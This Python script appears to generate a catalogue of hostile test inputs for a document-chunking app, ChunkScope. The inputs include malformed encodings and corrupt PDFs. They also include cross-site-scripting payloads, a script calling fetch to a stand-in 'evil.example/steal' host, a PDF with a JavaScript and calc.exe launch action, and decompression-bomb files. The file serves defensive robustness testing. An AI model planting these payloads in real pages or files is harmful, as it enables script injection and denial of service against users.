"""The catalogue of hostile inputs: files people will drop into ChunkScope that try to break it.

Small files are committed next to this script; regenerate them with
``.venv/bin/python tests/hostile/make_hostile.py``. Large ones (megabytes, or
thousands of objects) are never committed: ``write_large(directory)`` writes
them where a test asks, usually a pytest tmp dir. Every entry is bytes written
byte for byte, so the encoding or damage is explicit here.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from pathlib import Path

from fpdf import FPDF
from pypdf import PdfReader, PdfWriter

HERE = Path(__file__).resolve().parent

# An attribute payload that would run if any page rendered document text as HTML.
XSS_IMG = '<img src=x onerror="window.__pwned=1;alert(1)">'


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


SMALL_TEXT: dict[str, bytes] = {
    # Nothing to read.
    "empty.txt": b"",
    "whitespace_only.md": b" \t\r\n  \n\x0b\x0c\n" + "\u00a0\u3000\n".encode("utf-8"),
    # Binary data behind a text extension: a PNG header, and a zip archive's header.
    "png_as_text.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00",
    "zip_as_markdown.md": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)),
    # Noise without a single NUL byte, as compressed data looks.
    "noise_as_text.txt": bytes((i * 151 + 7) % 255 + 1 for i in range(600)),
    # Encodings.
    "invalid_utf8.txt": b"Valid start, then broken bytes: \xc3\x28 and \xff\xfe, then the end.\n",
    # UTF-8 with damage: a stray byte, and a character cut off after two of its three bytes.
    "mostly_utf8.txt": _utf8("Mostly UTF-8: café, naïve, 日本語, a stray byte ")
    + b"\x81, a cut-off character "
    + _utf8("語")[:2]
    + b", the end.\n",
    "utf16_bom.txt": "Ünïcode in UTF-16 with a byte-order mark.\n".encode("utf-16"),
    "utf16le_nobom.txt": "UTF-16 little endian without a mark.\n".encode("utf-16-le"),
    "latin1.txt": "Grüße aus Köln, schöne Straße, très bien.\n".encode("latin-1"),
    "nul_bytes.txt": b"Text with a NUL\x00 byte in the middle.\n",
    # Line endings.
    "crlf.md": b"# Title\r\n\r\nFirst paragraph,\r\nstill first.\r\n\r\nSecond paragraph.\r\n",
    "lone_cr.txt": b"Old Mac line one\rline two\r\rNew paragraph\r",
    # Unicode that breaks naive offset arithmetic.
    "combining_marks.txt": _utf8(
        "Ze\u0301\u0301\u0301ro, Z\u0335\u0321\u0334a\u0336l\u0338g\u0337o\u0334 text, a\u0308\u0304\u0301 and ñ.\n"
    ),
    "emoji_sequences.md": _utf8(
        "# Family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\n\n"
        "Flags \U0001f1eb\U0001f1f7\U0001f1ef\U0001f1f5, skin tones \U0001f44b\U0001f3fd, keycap 1\ufe0f\u20e3, "
        "and a rainbow flag \U0001f3f3\ufe0f\u200d\U0001f308.\n"
    ),
    "right_to_left.txt": _utf8(
        "English then עברית שלום עולם then العربية مرحبا بالعالم.\n\n"
        "An override \u202egnirts desrever\u202c and isolates \u2067abc\u2069 stay as they are.\n"
    ),
    # Markdown that never closes its code fence: the headings inside are code, not sections.
    "unclosed_fence.md": _utf8("# Real heading\n\nIntro.\n\n```python\n# not a heading\ndef f():\n    return 1\n"),
    # Untrusted markup that must never run in the app.
    "script_and_handlers.html": _utf8(
        "<!DOCTYPE html><html><head><title>Hostile page</title>"
        "<style>body{background:url(https://evil.example/bg.png)}</style>"
        "<script>alert('head script');fetch('https://evil.example/steal')</script>"
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
        "</head><body onload=\"alert('body onload')\">"
        "<h1>Visible heading</h1>"
        f"<p>Before image {XSS_IMG} after image.</p>"
        "<p><a href=\"javascript:alert('link')\">A javascript link</a> and "
        '<a href="https://evil.example/" onclick="alert(\'click\')">a handler</a>.</p>'
        "<svg onload=\"alert('svg')\"><script>alert('svg script')</script></svg>"
        '<iframe src="https://evil.example/frame"></iframe>'
        "<p>Escaped markup shows literally: &lt;script&gt;alert(1)&lt;/script&gt;</p>"
        "<noscript><p>noscript text</p></noscript>"
        "</body></html>"
    ),
    "raw_html.md": _utf8(
        "# Notes with raw HTML\n\n"
        f"An image tag {XSS_IMG} inside a paragraph.\n\n"
        "<script>alert('markdown script')</script>\n\n"
        "A [javascript link](javascript:alert('md-link')) and **bold <b onmouseover=alert(1)>html</b>**.\n"
    ),
    "ragged.csv": b'name,size,note\na,1,"two\nlines"\nb,2\nc,3,x,extra\n,,\n',
    # A text file that says it is a PDF.
    "html_named.pdf": _utf8("<html><body><p>I am not a PDF.</p></body></html>"),
}


def text_pdf(pages: tuple[str, ...]) -> bytes:
    """One line of Helvetica text per page, drawn with fpdf2."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=14)
    for text in pages:
        pdf.add_page()
        pdf.cell(text=text)
    return bytes(pdf.output())


def pdf_bytes(writer: PdfWriter) -> bytes:
    """What a pypdf writer writes."""
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(data: bytes, compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_with_content(content: bytes, compress: bool = False) -> bytes:
    """One page whose content stream is ``content``."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content, compress),
        _FONT,
    ])  # fmt: skip


def small_pdfs() -> dict[str, bytes]:
    text = text_pdf(("Hostile catalogue page one.", "Page two."))
    encrypted = PdfWriter(clone_from=PdfReader(io.BytesIO(text)))
    encrypted.encrypt("secret", algorithm="AES-256")
    blank = PdfWriter()
    blank.add_blank_page(width=200, height=200)
    return {
        "encrypted.pdf": pdf_bytes(encrypted),
        "truncated.pdf": text[: len(text) // 2],
        # The header of a PDF and then garbage where the objects should be.
        "corrupt.pdf": b"%PDF-1.7\n" + bytes((i * 37 + 11) % 256 for i in range(600)) + b"\n%%EOF\n",
        "no_text_layer.pdf": pdf_bytes(blank),
        # The page tree lists itself as its own kid.
        "looped_page_tree.pdf": raw_pdf([
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]),
        # A page tree that claims a billion pages.
        "billion_pages.pdf": raw_pdf([
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]),
        # Text drawn with JavaScript and a launch action attached: the text layer is all we read.
        "javascript_action.pdf": raw_pdf([
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(b"BT /F1 12 Tf 20 100 Td (PDF with an open action) Tj ET"),
            _FONT,
            b"<< /S /JavaScript /JS (app.alert('pdf js')) /Next << /S /Launch /F (calc.exe) >> >>",
        ]),
    }  # fmt: skip


def small_files() -> dict[str, bytes]:
    return {**SMALL_TEXT, **small_pdfs()}


# --------------------------------------------------------------------------- large

TWENTY_MB = 20 * 1024 * 1024


def _deep_page_tree(depth: int) -> bytes:
    """Pages nodes nested ``depth`` levels deep, one real page at the bottom."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = len(objects) + 1
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (number - 1)
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 200] >>" % len(objects))
    return raw_pdf(objects)


def _many_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=100, height=100)
    return pdf_bytes(writer)


LARGE: dict[str, Callable[[], bytes]] = {
    # One 20 MB line with no separator of any kind.
    "one_line_20mb.txt": lambda: b"x" * TWENTY_MB,
    # A 2 MB line: under the limits, so it must load and split in bounded time.
    "one_line_2mb.txt": lambda: b"y" * (2 * 1024 * 1024),
    # Words of 200,000 characters between ordinary sentences.
    "long_words.txt": lambda: b" ".join([b"Short start.", b"a" * 200_000, b"middle words", b"b" * 200_000, b"end."]),
    # Five thousand headings, and a fence opened at the end that never closes.
    "many_headings.md": lambda: b"".join(b"#" * (1 + i % 6) + b" Heading %d\n\nBody %d.\n\n" % (i, i) for i in range(5000))
    + b"```\n# inside the unclosed fence\n",
    # HTML nested 20,000 elements deep, with text at the bottom.
    "deep_nesting.html": lambda: b"<div>" * 20_000 + b"<p>deep text</p>" + b"</div>" * 20_000,
    "deep_page_tree.pdf": lambda: _deep_page_tree(3000),
    "too_many_pages.pdf": lambda: _many_pages(2001),
    # Six million one-letter text operators (42 MB) compressed into a few kilobytes.
    "content_bomb.pdf": lambda: pdf_with_content(b"BT /F1 1 Tf " + b"(x) Tj " * 6_000_000 + b"ET", compress=True),
    # A CSV whose one cell holds four million characters (csv's own limit is 131,072).
    "huge_cell.csv": lambda: b'id,body\n1,"' + b"x" * 4_000_000 + b'"\n',
    # A CSV of 30,000 rows, every one with a different number of fields.
    "ragged_rows.csv": lambda: b"a,b,c\n" + b"".join(b",".join([b"v"] * (1 + i % 7)) + b"\n" for i in range(30_000)),
}  # fmt: skip


def write_large(directory: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the large catalogue entries (all, or ``names``) into ``directory``."""
    paths = {}
    for name in names or list(LARGE):
        path = directory / name
        if not path.exists():
            path.write_bytes(LARGE[name]())
        paths[name] = path
    return paths


def main() -> None:
    for name, data in small_files().items():
        (HERE / name).write_bytes(data)
        print(f"wrote {name} ({len(data)} bytes)")


if __name__ == "__main__":
    main()
